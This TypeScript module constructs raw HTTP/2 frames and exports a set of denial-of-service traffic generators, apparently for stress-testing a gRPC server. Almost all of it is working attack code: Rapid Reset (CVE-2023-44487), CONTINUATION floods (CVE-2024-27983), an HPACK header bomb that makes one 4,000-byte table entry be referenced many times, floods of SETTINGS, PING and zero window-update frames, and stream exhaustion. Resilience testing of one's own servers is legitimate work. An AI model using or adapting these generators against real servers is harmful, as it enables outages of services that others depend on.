/** Creates the next bytes of one connection; undefined: it stays idle. */
export type Attack = () => (() => Buffer) | undefined

const kinds = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, window: 8, continuation: 9 }
const flags = { none: 0, endStream: 1, endHeaders: 4 }
/** Size of a block, in bytes. */
const blockSize = 1 << 14

function frame(kind: keyof typeof kinds, flag: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9)
  header.writeUIntBE(payload.length, 0, 3)
  header.writeUInt8(kinds[kind], 3)
  header.writeUInt8(flag, 4)
  header.writeUInt32BE(stream, 5)
  return Buffer.concat([header, payload])
}

const none = Buffer.alloc(0)

/** The start of a connection, with empty settings. */
export const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame('settings', flags.none, 0, none),
])

/** A header that is not indexed, in plain text. RFC 7541, 6.2.2 */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ])
}

/** POST, http, and the path and type of a check. */
const checkHeaders = Buffer.concat([
  Buffer.from([0x83, 0x86]),
  literal(':path', '/grpc.health.v1.Health/Check'),
  literal('content-type', 'application/grpc'),
])
/** GET / */
const shortHeaders = Buffer.from([0x82, 0x86, 0x84])

/** Repeats frames of new streams in blocks. */
function ofStreams(frames: (stream: number) => readonly Buffer[]): Attack {
  return () => {
    let stream = 1
    return () => {
      const parts: Buffer[] = []
      for (let size = 0; size < blockSize; stream += 2) {
        const next = Buffer.concat(frames(stream))
        parts.push(next)
        size += next.length
      }
      return Buffer.concat(parts)
    }
  }
}

/** Repeats the same frame, after others. */
function repeated(one: Buffer, first: Buffer = none): Attack {
  const block = Buffer.concat(Array<Buffer>(Math.ceil(blockSize / one.length)).fill(one))
  return () => {
    let hasBegun = false
    return () => {
      const next = hasBegun ? block : Buffer.concat([first, block])
      hasBegun = true
      return next
    }
  }
}

/** A header of 4,000 bytes that enters the table, then one byte for each time it is meant. */
const bigHeader = Buffer.concat([
  Buffer.from([0x40, 1]),
  Buffer.from('x'),
  // The length 4000 as an integer with a prefix of 7 bits.
  Buffer.from([0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4000, 'y'),
])
const bombHeaders = Buffer.concat([shortHeaders, bigHeader, Buffer.alloc(8000, 0xbe)])

/** Attacks on an HTTP/2 server that needs no request to be valid. */
export const attacks = {
  /** Connections without a byte. */
  idle: () => undefined,
  /** Complete requests. */
  requests: ofStreams((stream) => [
    frame('headers', flags.endHeaders, stream, checkHeaders),
    frame('data', flags.endStream, stream, Buffer.alloc(5)),
  ]),
  /** Complete requests, whose answers are not read. */
  unread: ofStreams((stream) => [
    frame('headers', flags.endHeaders, stream, checkHeaders),
    frame('data', flags.endStream, stream, Buffer.alloc(5)),
  ]),
  /** Requests that never end. */
  streams: ofStreams((stream) => [frame('headers', flags.endHeaders, stream, checkHeaders)]),
  /** Rapid reset, CVE-2023-44487. */
  resets: ofStreams((stream) => [
    frame('headers', flags.endHeaders, stream, shortHeaders),
    frame('reset', flags.none, stream, Buffer.from([0, 0, 0, 8])),
  ]),
  settings: repeated(frame('settings', flags.none, 0, none)),
  pings: repeated(frame('ping', flags.none, 0, Buffer.alloc(8))),
  windows: repeated(frame('window', flags.none, 0, Buffer.from([0, 0, 0, 0]))),
  /** CVE-2024-27983 and its kin. */
  continuations: repeated(
    frame('continuation', flags.none, 1, literal('x', 'y'.repeat(100))),
    frame('headers', flags.none, 1, shortHeaders),
  ),
  headerBombs: ofStreams((stream) => [
    frame('headers', flags.endHeaders | flags.endStream, stream, bombHeaders),
  ]),
} satisfies Record<string, Attack>

export type AttackKind = keyof typeof attacks
